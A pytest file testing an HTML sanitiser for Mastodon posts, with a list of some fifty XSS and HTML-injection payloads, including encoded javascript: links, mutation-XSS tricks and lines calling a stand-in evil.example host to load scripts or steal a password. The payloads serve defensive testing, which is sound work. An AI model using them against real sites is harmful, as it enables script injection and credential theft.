"""Sanitising: XSS and HTML-injection payloads die, good markup keeps its meaning."""

import re
from html.parser import HTMLParser

import pytest

from moderation.sanitize import (
    LINK_PROTOCOLS,
    LINK_REL,
    MASTODON_ELEMENTS,
    html_to_text,
    plain_text,
    sanitize_html,
    text_to_html,
)

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<p onmouseover="alert(1)">hover</p>',
    '<a href="https://ok.example/" onclick="alert(1)">click</a>',
    '<span class="h-card" onfocus="alert(1)" tabindex="1">x</span>',
    '<details open ontoggle="alert(1)">x</details>',
    '<input autofocus onfocus="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href="java\tscript:alert(1)">link</a>',
    '<a href="java&#x09;script:alert(1)">link</a>',
    '<a href="&#106;avascript:alert(1)">link</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">link</a>',
    '<a href="javascript&colon;alert(1)">link</a>',
    '<a href=" \x01javascript:alert(1)">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<blockquote cite="javascript:alert(1)">quote</blockquote>',
    '<svg onload=alert(1)><circle r="10"/></svg>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<span style="width: expression(alert(1))">styled</span>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe/src="data:text/html,<svg onload=alert(1)>">',
    '<object data="https://evil.example/x.swf"><param name="a" value="b"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/steal"><input name="password"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    '<a href="https://ok.example/" title="x"onmouseover="alert(1)">quote break</a>',
    '<p title="a\'><script>alert(1)</script>">quote break</p>',
    "<div><img src=x onerror=alert(1)",
    '<img src="x" onerror="alert(1)"/',
    "<p><b><i>unclosed <script>alert(1)",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
]

MASTODON_POST = (
    '<p><span class="h-card" translate="no"><a href="https://mastodon.example/@anna" '
    'class="u-url mention">@<span>anna</span></a></span> Zie '
    '<a href="https://www.gemeente.example/wijkbudget/2025" rel="nofollow noopener" '
    'translate="no" target="_blank"><span class="invisible">https://www.</span>'
    '<span class="ellipsis">gemeente.example/wijkbudg</span>'
    '<span class="invisible">et/2025</span></a> '
    '<a href="https://mastodon.example/tags/wijkbudget" class="mention hashtag" rel="tag">'
    "#<span>wijkbudget</span></a></p>"
)

LINK_ATTRIBUTES = f'rel="{LINK_REL}" target="_blank"'

ALLOWED_ATTRIBUTES = {
    "a": {"href", "class", "title", "translate", "rel", "target"},
    "abbr": {"title"},
    "span": {"class", "translate"},
    "blockquote": {"cite"},
    "ol": {"start", "reversed"},
    "li": {"value"},
    "p": {"class"},
}


class _Markup(HTMLParser):
    """Records the elements and attributes of sanitised output."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def _has_allowed_scheme(url: str | None) -> bool:
    scheme = (url or "").split(":", 1)[0]
    return scheme.lower() in LINK_PROTOCOLS and ":" in (url or "")


def assert_harmless(output: str) -> None:
    lowered = output.lower()
    assert "<script" not in lowered
    assert "javascript:" not in lowered
    assert "vbscript:" not in lowered
    assert not re.search(r"\son\w+\s*=", lowered)
    assert "style=" not in lowered
    # Stripped, not escaped: no tag-like text appears on the page.
    assert not re.search(r"&lt;/?[a-z]", lowered)
    for tag, attributes in _Markup(output).elements:
        assert tag in MASTODON_ELEMENTS, tag
        assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()) | {"lang"}, tag
        if tag == "a":
            assert _has_allowed_scheme(attributes.get("href"))
            assert attributes["rel"] == LINK_REL
            assert attributes["target"] == "_blank"
        if "cite" in attributes:
            assert _has_allowed_scheme(attributes["cite"])


def test_corpus_is_at_least_thirty_payloads():
    assert len(XSS_PAYLOADS) >= 30


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_remote_payload_leaves_nothing_executable_and_no_visible_tags(payload):
    assert_harmless(sanitize_html(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_inside_a_mastodon_post_keeps_what_came_before_it(payload):
    # What follows an unclosed payload may be swallowed, as a browser would.
    html = MASTODON_POST.replace(" Zie ", f" {payload} Zie ", 1)
    output = sanitize_html(html)
    assert_harmless(output)
    assert '<a href="https://mastodon.example/@anna" class="u-url mention"' in output


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_local_text_payload_is_shown_as_typed_and_never_becomes_markup(payload):
    output = text_to_html(payload)
    for tag, attributes in _Markup(output).elements:
        assert tag in {"p", "br", "a"}
        if tag == "a":
            assert attributes["href"].startswith("https://")
    typed = " ".join(payload.replace("\x01", "").split())
    assert html_to_text(output) == typed


@pytest.mark.parametrize("payload", [*XSS_PAYLOADS, MASTODON_POST])
def test_sanitising_twice_changes_nothing(payload):
    once = sanitize_html(payload)
    assert sanitize_html(once) == once


def test_code_content_goes_with_its_element():
    assert sanitize_html("<p>voor</p><script>alert(1)</script><p>na</p>") == "<p>voor</p><p>na</p>"
    assert sanitize_html("<style>p{color:red}</style>tekst") == "tekst"
    assert sanitize_html("<svg><text>geheim</text></svg><p>zichtbaar</p>") == "<p>zichtbaar</p>"


def test_other_disallowed_elements_are_unwrapped_keeping_their_text():
    html = '<div><font color="red">rood</font> <table><tr><td>cel</td></tr></table></div>'
    # bleach leaves a newline where a block element was, as a browser shows a break.
    assert sanitize_html(html) == "rood \ncel"


def test_mastodon_post_keeps_mentions_hashtags_and_shortened_links():
    assert sanitize_html(MASTODON_POST) == (
        '<p><span class="h-card" translate="no"><a href="https://mastodon.example/@anna" '
        f'class="u-url mention" {LINK_ATTRIBUTES}>@<span>anna</span></a></span> Zie '
        '<a href="https://www.gemeente.example/wijkbudget/2025" translate="no" '
        f'{LINK_ATTRIBUTES}><span class="invisible">https://www.</span>'
        '<span class="ellipsis">gemeente.example/wijkbudg</span>'
        '<span class="invisible">et/2025</span></a> '
        '<a href="https://mastodon.example/tags/wijkbudget" class="mention hashtag" '
        f"{LINK_ATTRIBUTES}>#<span>wijkbudget</span></a></p>"
    )


def test_formatting_mastodon_keeps_survives_unchanged():
    html = (
        "<p>Een <em>nadruk</em>, <strong>vet</strong>, <b>b</b>, <i>i</i>, <u>u</u>, "
        "<s>s</s>, <del>weg</del>, <code>x = 1</code>, H<sub>2</sub>O, m<sup>2</sup>, "
        '<abbr title="Openbare ruimte">OR</abbr><br>nieuwe regel</p>'
        "<blockquote><p>citaat</p></blockquote><pre><code>  def f():\n    pass</code></pre>"
        '<ul><li>een</li><li>twee</li></ul><ol start="3" reversed=""><li value="7">drie</li></ol>'
        '<p lang="fy">Goeie</p><ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>'
    )
    assert sanitize_html(html) == html


def test_every_link_gets_the_rel_and_a_new_tab_replacing_what_it_had():
    html = '<a href="https://example.org/" rel="me opener" target="_self">x</a>'
    assert sanitize_html(html) == f'<a href="https://example.org/" {LINK_ATTRIBUTES}>x</a>'


@pytest.mark.parametrize(
    "href", ["mailto:wijkraad@example.org", "xmpp:anna@example.org", "gemini://example.org/"]
)
def test_links_with_other_kept_schemes_survive(href):
    assert sanitize_html(f'<a href="{href}">x</a>') == f'<a href="{href}" {LINK_ATTRIBUTES}>x</a>'


@pytest.mark.parametrize("href", ["/relative", "//evil.example/", "#top", "ftp://example.org/", ""])
def test_links_without_an_absolute_allowed_url_become_their_text(href):
    assert sanitize_html(f'<p><a href="{href}">tekst</a></p>') == "<p>tekst</p>"
    assert sanitize_html("<p><a>tekst</a></p>") == "<p>tekst</p>"


def test_headings_become_bold_paragraphs():
    assert sanitize_html("<h1>Wijkbudget</h1><h6>klein</h6>") == (
        "<p><strong>Wijkbudget</strong></p><p><strong>klein</strong></p>"
    )


def test_only_classes_mastodon_keeps_survive():
    html = '<span class="h-card mention btn-danger hashtag">x</span><p class="hidden">y</p>'
    assert sanitize_html(html) == '<span class="h-card mention hashtag">x</span><p>y</p>'


def test_translate_survives_only_to_switch_translation_off():
    assert sanitize_html('<span translate="yes">x</span>') == "<span>x</span>"
    assert sanitize_html('<span translate="no">x</span>') == '<span translate="no">x</span>'


def test_text_and_entities_are_kept_as_written():
    assert sanitize_html("<p>Tom &amp; Jerry &lt;3 1 < 2</p>") == (
        "<p>Tom &amp; Jerry &lt;3 1 &lt; 2</p>"
    )
    assert sanitize_html("") == ""


def test_control_characters_and_lone_surrogates_are_removed():
    assert sanitize_html("<p>a\x00b\x07c\ud800d</p>") == "<p>abcd</p>"


def test_plain_text_drops_tags_and_script_content():
    assert plain_text("Jan <script>alert(1)</script><b>de</b> Vries") == "Jan de Vries"
    assert plain_text("<p>Eerste</p><p>Tweede</p>regel<br>drie") == "Eerste Tweede regel drie"


def test_plain_text_decodes_entities_and_keeps_lone_angle_brackets():
    assert plain_text("Fiets &amp; Zo &lt;3") == "Fiets & Zo <3"
    assert plain_text("Budget <500 euro") == "Budget <500 euro"


def test_plain_text_collapses_whitespace_and_strips_control_and_bidi_characters():
    assert plain_text("  Wijk\n\tNoord  ") == "Wijk Noord"
    assert plain_text("ad\u202emin\x07 &#x202e;x") == "admin x"


def test_plain_text_cuts_at_max_length_with_an_ellipsis():
    assert plain_text("Herinrichting Vismarkt", 12) == "Herinrichti…"
    assert len(plain_text("Herinrichting Vismarkt", 12)) == 12
    assert plain_text("Vismarkt", 8) == "Vismarkt"
    assert plain_text("Twee woorden", 6) == "Twee…"


def test_plain_text_does_not_cut_a_letter_from_its_accent():
    assert plain_text("Cafe\u0301 de Vries", 5) == "Caf…"


def test_plain_text_refuses_a_max_length_below_one():
    with pytest.raises(ValueError):
        plain_text("x", 0)


def test_text_to_html_makes_paragraphs_and_line_breaks():
    text = "Beste buren,\r\nkom allemaal.\n\n\n  Groet,\nde wijkraad  \n"
    assert text_to_html(text) == "<p>Beste buren,<br>kom allemaal.</p><p>Groet,<br>de wijkraad</p>"
    assert text_to_html("  \n\n ") == ""


def test_text_to_html_escapes_markup():
    assert text_to_html('<b>1 < 2 & "3"</b>') == '<p>&lt;b&gt;1 &lt; 2 &amp; "3"&lt;/b&gt;</p>'


def test_text_to_html_links_urls_without_trailing_punctuation():
    text = "Zie https://example.org/a?b=1&c=2. En (https://nl.wikipedia.org/wiki/X_(y))."
    assert text_to_html(text) == (
        '<p>Zie <a href="https://example.org/a?b=1&amp;c=2" '
        f"{LINK_ATTRIBUTES}>https://example.org/a?b=1&amp;c=2</a>. En "
        '(<a href="https://nl.wikipedia.org/wiki/X_(y)" '
        f"{LINK_ATTRIBUTES}>https://nl.wikipedia.org/wiki/X_(y)</a>).</p>"
    )


def test_text_to_html_links_only_http_and_https():
    assert text_to_html("javascript:alert(1) ftp://example.org https://") == (
        "<p>javascript:alert(1) ftp://example.org https://</p>"
    )


@pytest.mark.parametrize(
    "text",
    [
        "Gewoon tekst",
        "Regel een\nregel twee\n\nAlinea met https://example.org/pad?q=1&r='x'#frag",
        "Tekens: < > & \" ' &amp; &lt; ©",
        "Links (https://example.org/x) en https://example.org/y!",
    ],
)
def test_text_to_html_output_passes_sanitize_html_unchanged(text):
    html = text_to_html(text)
    assert sanitize_html(html) == html


def test_html_to_text_keeps_paragraphs_line_breaks_and_lists():
    html = (
        "<p>Eerste <strong>alinea</strong><br>tweede regel</p>\n<p>Tom &amp; Jerry</p>"
        '<ul><li>een</li><li>twee</li></ul><ol start="3"><li>drie</li><li>vier</li></ol>'
        "<pre>  ingesprongen\n  code</pre><script>alert(1)</script>"
    )
    assert html_to_text(html) == (
        "Eerste alinea\ntweede regel\n\nTom & Jerry\n\n- een\n- twee\n\n3. drie\n4. vier"
        "\n\n  ingesprongen\n  code"
    )


def test_html_to_text_of_a_mastodon_post_reads_naturally():
    assert html_to_text(MASTODON_POST) == (
        "@anna Zie https://www.gemeente.example/wijkbudget/2025 #wijkbudget"
    )
